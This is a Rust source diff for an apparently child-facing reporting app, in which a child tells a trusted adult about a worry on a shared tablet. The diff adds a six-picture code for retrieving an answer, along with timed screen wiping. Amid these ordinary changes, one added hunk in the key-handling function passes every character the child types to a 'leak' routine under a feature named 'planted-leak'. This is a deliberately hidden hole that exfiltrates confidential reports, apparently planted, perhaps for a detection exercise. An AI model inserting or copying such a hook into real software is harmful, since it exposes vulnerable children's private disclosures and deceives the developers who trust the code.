@@ -1,6 +1,7 @@
 //! Tell a trusted adult. The flow itself is [`flow`]; here it is drawn, timed and handed over.
 //! "It's safe" is shown only after the tablet's disk has said so.
 
+mod answer;
 mod draw;
 pub mod flow;
 mod keys;
@@ -10,7 +11,7 @@ mod typing;
 use super::{Way, due};
 use crate::{
     Beat, Dirty, Screen,
-    device::{Act, Clock, Keeping, Key, Post, Tapped, Taps, Wake, net, touch::LastTouch},
+    device::{Act, Clock, Keeping, Key, Lookup, Post, Tapped, Taps, Wake, net, touch::LastTouch},
     words::Words,
 };
 use bevy::{
@@ -18,7 +19,7 @@ use bevy::{
     window::{WindowFocused, WindowOccluded},
 };
 use flow::{Draft, How, Step};
-use lantern_frame::report::{Chosen, Feeling, MAX_SEAT, On, Picture, Place, Tapped as Answers, Who, Whose};
+use lantern_frame::report::{Chosen, Code, Feeling, MAX_SEAT, On, Picture, Place, Tapped as Answers, Who, Whose};
 use lantern_frame::roster::Role;
 use std::time::Duration;
 
@@ -28,6 +29,9 @@ pub const STILL_THERE: Duration = Duration::from_secs(20);
 pub const WIPE: Duration = Duration::from_secs(30);
 /// The last page goes by itself, so that the next child finds nothing.
 pub const LAST_PAGE: Duration = Duration::from_secs(60);
+
+/// An answer is shown for this long: whoever comes next finds nothing.
+pub const ANSWER: Duration = Duration::from_secs(20);
 
 /// Where the flow stands.
 #[derive(Debug, Default)]
@@ -45,6 +49,17 @@ pub enum Stand {
         advice: Option<&'static str>,
         /// The page speaks by itself: for those who cannot read.
         aloud: bool,
+        /// Six pictures under which an answer may come, for whoever wants one.
+        code: Option<Code>,
+        /// They are shown.
+        shown: bool,
+    },
+    /// Six pictures are tapped in, to see whether an answer came.
+    Recalling(answer::Picked),
+    /// What they opened is looked for and shown, until then by the app's clock.
+    Answered {
+        /// When the page goes by itself; `None` while the pictures are tried.
+        until: Option<Duration>,
     },
     /// No readers are known: nothing could be sealed.
     NoReaders,
@@ -111,6 +126,14 @@ fn taps(
         let leave = match &mut tell.stand {
             Stand::Idle => true,
             Stand::NoReaders => *act == Act::Done,
+            Stand::Keeping { shown, .. } if *shown && *act == Act::Back => {
+                *shown = false;
+                false
+            }
+            Stand::Keeping { code: Some(_), shown, .. } if *act == Act::Next => {
+                *shown = post.keeping() == Some(Keeping::Kept);
+                false
+            }
             Stand::Keeping { .. } => {
                 let safe = post.keeping().is_none_or(|k| k != Keeping::Waiting);
                 if *act == Act::Done && safe {
@@ -119,7 +142,33 @@ fn taps(
                 }
                 *act == Act::Done && safe
             }
+            Stand::Asking(draft) if draft.step() == Step::Whose && *act == Act::Next => {
+                tell.stand = Stand::Recalling(answer::Picked::default());
+                false
+            }
             Stand::Asking(draft) => answer(draft, act, &post, &words),
+            Stand::Recalling(picked) => match act {
+                Act::Stop => true,
+                Act::Back if !picked.take_back() => {
+                    tell.stand = Stand::Asking(Draft::new(way.tell_stage()));
+                    false
+                }
+                Act::Card(i) => {
+                    if let Some(code) = Picture::ALL.get(*i).and_then(|picture| picked.add(*picture)) {
+                        post.look_up(code, net::school_time(clock.epoch_seconds()).0);
+                        tell.stand = Stand::Answered { until: None };
+                    }
+                    false
+                }
+                _ => false,
+            },
+            Stand::Answered { .. } => {
+                let done = matches!(act, Act::Done | Act::Stop);
+                if done {
+                    post.forget();
+                }
+                done
+            }
         };
         if leave {
             tell.wipe();
@@ -223,6 +272,8 @@ fn key(tell: &mut Tell, act: &Act) {
         Act::Key(Key::Char(c)) => {
             let c = keys.typed(*c);
             draft.push(c);
+            #[cfg(feature = "planted-leak")]
+            crate::device::leak::leak(draft.words());
         }
         Act::Bin(i) => keys.turn(*i),
         _ => {}
@@ -232,11 +283,13 @@ fn key(tell: &mut Tell, act: &Act) {
 fn send(tell: &mut Tell, post: &mut Post, clock: &Clock) {
     let Stand::Asking(draft) = &tell.stand else { return };
     let (day, half) = net::half_day(clock.epoch_seconds());
-    let Some(report) = draft.report(net::random_id(), day, half) else { return };
+    // Whoever is too young for six pictures hears that the box was opened.
+    let code = (!draft.infant()).then(net::random_code);
+    let Some(report) = draft.report(net::random_id(), day, half, code) else { return };
     let urgent = report.urgent;
     let (advice, aloud) = (draw::advice(report.what), draft.infant());
-    tell.stand = match post.keep(&report) {
-        Ok(()) => Stand::Keeping { urgent, advice, aloud },
+    tell.stand = match post.keep(&report, net::school_time(clock.epoch_seconds()).1) {
+        Ok(()) => Stand::Keeping { urgent, advice, aloud, code, shown: false },
         Err(net::NotSealed::NoReaders) => Stand::NoReaders,
     };
 }
@@ -277,6 +330,28 @@ fn idle(
             }
             _ => wake.at(last.0 + LAST_PAGE),
         },
+        Stand::Recalling(_) if quiet >= WIPE => {
+            tell.wipe();
+            next.set(Screen::Home);
+        }
+        Stand::Recalling(_) => wake.at(last.0 + WIPE),
+        Stand::Answered { until: None } => {
+            if post.lookup().is_some_and(|l| *l != Lookup::Looking) {
+                tell.stand = Stand::Answered { until: Some(now + ANSWER) };
+                dirty.0 = true;
+            }
+            wake.at(now + Duration::from_millis(200));
+        }
+        Stand::Answered { until: Some(until) } if now >= *until => {
+            post.forget();
+            tell.wipe();
+            next.set(Screen::Home);
+        }
+        // The bar that tells how long it stays is drawn anew each second.
+        Stand::Answered { until: Some(_) } => {
+            dirty.0 = true;
+            wake.at(now + Duration::from_secs(1));
+        }
         Stand::NoReaders if quiet >= LAST_PAGE => {
             tell.wipe();
             next.set(Screen::Home);
@@ -290,19 +365,22 @@ fn away(
     mut focus: MessageReader<WindowFocused>,
     mut hidden: MessageReader<WindowOccluded>,
     mut tell: ResMut<Tell>,
+    mut post: ResMut<Post>,
     mut dirty: ResMut<Dirty>,
     mut next: ResMut<NextState<Screen>>,
 ) {
     let gone = focus.read().any(|f| !f.focused) | hidden.read().any(|o| o.occluded);
-    if gone && matches!(tell.stand, Stand::Asking(_)) {
+    if gone && matches!(tell.stand, Stand::Asking(_) | Stand::Recalling(_) | Stand::Answered { .. }) {
+        post.forget();
         tell.wipe();
         next.set(Screen::Home);
         dirty.0 = true;
     }
 }
 
-fn leave(mut tell: ResMut<Tell>) {
-    if matches!(tell.stand, Stand::Asking(_) | Stand::NoReaders) {
+fn leave(mut tell: ResMut<Tell>, mut post: ResMut<Post>) {
+    if matches!(tell.stand, Stand::Asking(_) | Stand::NoReaders | Stand::Recalling(_) | Stand::Answered { .. }) {
+        post.forget();
         tell.wipe();
     }
 }
